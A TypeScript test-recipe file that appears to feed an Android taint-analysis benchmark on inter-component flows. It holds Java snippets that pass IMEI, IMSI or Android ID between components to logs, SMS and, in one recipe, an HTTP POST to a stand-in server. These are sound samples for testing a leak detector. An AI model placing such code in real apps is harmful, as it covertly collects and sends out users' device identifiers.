import { type FlowRecipe, leak, none } from '../recipe.ts';
import { androidId, create, imei, imeiOf, imsi, sms } from '../snippets.ts';

const from = 'MainActivity.onCreate';
const second = (extra: string): string =>
  `class SecondActivity extends Activity { ${create} Log.d("second", getIntent().getStringExtra("${extra}")); } }`;
const declared = { activities: ['.SecondActivity'] } as const;

export const interComponent: readonly FlowRecipe[] = [
  {
    id: 'icc-class-name-text',
    about: 'setClassName with texts.',
    java: `class MainActivity extends Activity { ${create} Intent i = new Intent(); i.setClassName("%p", "%p.SecondActivity"); i.putExtra("k", ${imsi}); startActivity(i); } } ${second('k')}`,
    manifest: declared,
    flows: [leak('imsi', from, 'log.d', 'SecondActivity.onCreate')],
  },
  {
    id: 'icc-two-hops',
    about: 'The second activity hands the extra on to a third.',
    java: `class MainActivity extends Activity { ${create} startActivity(new Intent(this, SecondActivity.class).putExtra("a", ${imei})); } }
class SecondActivity extends Activity { ${create} Intent i = new Intent(this, ThirdActivity.class); i.putExtra("z", getIntent().getStringExtra("a")); startActivity(i); } }
class ThirdActivity extends Activity { ${create} Log.w("z", getIntent().getStringExtra("z")); } }`,
    manifest: { activities: ['.SecondActivity', '.ThirdActivity'] },
    flows: [leak('imei', from, 'log.w', 'ThirdActivity.onCreate')],
  },
  {
    id: 'icc-whole-intent-on',
    about: 'The second activity sends its own intent on, with another class.',
    java: `class MainActivity extends Activity { ${create} startActivity(new Intent(this, RouteActivity.class).putExtra("a", ${imei})); } }
class RouteActivity extends Activity { ${create} Intent i = new Intent(getIntent()); i.setClass(this, EndActivity.class); startActivity(i); finish(); } }
class EndActivity extends Activity { ${create} Log.d("a", getIntent().getStringExtra("a")); } }`,
    manifest: { activities: ['.RouteActivity', '.EndActivity'] },
    flows: [leak('imei', from, 'log.d', 'EndActivity.onCreate')],
  },
  {
    id: 'icc-new-intent',
    about: 'An activity that is already there gets a second intent in onNewIntent.',
    java: `class MainActivity extends Activity { ${create} startActivity(new Intent(this, TopActivity.class)); } protected void onRestart() { super.onRestart(); startActivity(new Intent(this, TopActivity.class).putExtra("k", ${imei})); } }
class TopActivity extends Activity { protected void onNewIntent(Intent i) { super.onNewIntent(i); Log.d("new", i.getStringExtra("k")); } }`,
    manifest: { activities: [{ name: '.TopActivity', attributes: { 'android:launchMode': 'singleTask' } }] },
    flows: [leak('imei', 'MainActivity.onRestart', 'log.d', 'TopActivity.onNewIntent')],
  },
  {
    id: 'icc-broadcast-ordered',
    about: 'An ordered broadcast: the first receiver reads and sets the result, the last one prints it.',
    java: `class MainActivity extends Activity { ${create} sendOrderedBroadcast(new Intent(this, First.class), null, new BroadcastReceiver() { public void onReceive(Context c, Intent i) { Log.d("end", getResultData()); } }, null, 0, null, null); } }
class First extends BroadcastReceiver { public void onReceive(Context c, Intent i) { setResultData(${imeiOf('c')}); } }`,
    manifest: { receivers: ['.First'] },
    flows: [leak('imei', 'First.onReceive', 'log.d', 'MainActivity$1.onReceive')],
  },
  {
    id: 'icc-local-broadcast',
    about: 'A local broadcast between two parts of the app.',
    java: `class MainActivity extends Activity { ${create} LocalBroadcastManager m = LocalBroadcastManager.getInstance(this); m.registerReceiver(new Hear(), new IntentFilter("go")); m.sendBroadcast(new Intent("go").putExtra("k", ${imsi})); } } class Hear extends BroadcastReceiver { public void onReceive(Context c, Intent i) { Log.d("hear", i.getStringExtra("k")); } }`,
    flows: [leak('imsi', from, 'log.d', 'Hear.onReceive')],
  },
  {
    id: 'icc-service-start',
    about: 'An extra for a started service, which sends it to a server.',
    java: `class MainActivity extends Activity { ${create} startService(new Intent(this, PostService.class).putExtra("k", ${androidId})); } }
class PostService extends Service { public int onStartCommand(Intent i, int f, int n) { post(i.getStringExtra("k")); return 2; } public IBinder onBind(Intent i) { return null; } void post(String s) { try { HttpURLConnection c = (HttpURLConnection) new URL("https://p.example.cn/").openConnection(); c.setDoOutput(true); DataOutputStream o = new DataOutputStream(c.getOutputStream()); o.writeBytes(s); o.close(); } catch (IOException e) { stopSelf(); } } }`,
    manifest: { services: ['.PostService'] },
    flows: [leak('android id', from, 'http line', 'PostService.post')],
  },
  {
    id: 'icc-provider-query',
    about: 'A provider of the app answers with a cursor that holds the number.',
    java: `class MainActivity extends Activity { ${create} Cursor c = getContentResolver().query(Uri.parse("content://cn.shuiliu.ids/x"), null, null, null, null); if (c.moveToFirst()) Log.d("c", c.getString(0)); c.close(); } }
class Ids extends ContentProvider { public boolean onCreate() { return true; } public Uri insert(Uri u, ContentValues v) { return null; } public Cursor query(Uri u, String[] p, String s, String[] a, String o) { MatrixCursor m = new MatrixCursor(new String[]{"id"}); m.addRow(new Object[]{${imeiOf('getContext()')}}); return m; } public String getType(Uri u) { return null; } public int delete(Uri u, String s, String[] a) { return 0; } public int update(Uri u, ContentValues v, String s, String[] a) { return 0; } }`,
    manifest: { providers: [{ name: '.Ids', authorities: 'cn.shuiliu.ids', exported: false }] },
    flows: [leak('imei', 'Ids.query', 'log.d', 'MainActivity.onCreate')],
  },
  {
    id: 'icc-static-between',
    about: 'A static field of the first activity, read by the second.',
    java: `class MainActivity extends Activity { static String shared; ${create} shared = ${imei}; startActivity(new Intent(this, SecondActivity.class)); } } class SecondActivity extends Activity { protected void onResume() { super.onResume(); ${sms('MainActivity.shared')} } }`,
    manifest: declared,
    flows: [leak('imei', from, 'sms', 'SecondActivity.onResume')],
  },
  {
    id: 'icc-serialisable-extra',
    about: 'An object that can be serialised as an extra; one of its two fields is printed by each sink.',
    java: `class Card implements Serializable { String id; String label; } class MainActivity extends Activity { ${create} Card c = new Card(); c.id = ${imei}; c.label = "mine"; startActivity(new Intent(this, SecondActivity.class).putExtra("card", (Serializable) c)); } }
class SecondActivity extends Activity { ${create} Card c = (Card) getIntent().getSerializableExtra("card"); Log.d("id", c.id); Log.e("label", c.label); } }`,
    manifest: declared,
    flows: [leak('imei', from, 'log.d', 'SecondActivity.onCreate')],
    noFlows: [none('another field', 'imei', from, 'log.e', 'SecondActivity.onCreate')],
  },
];
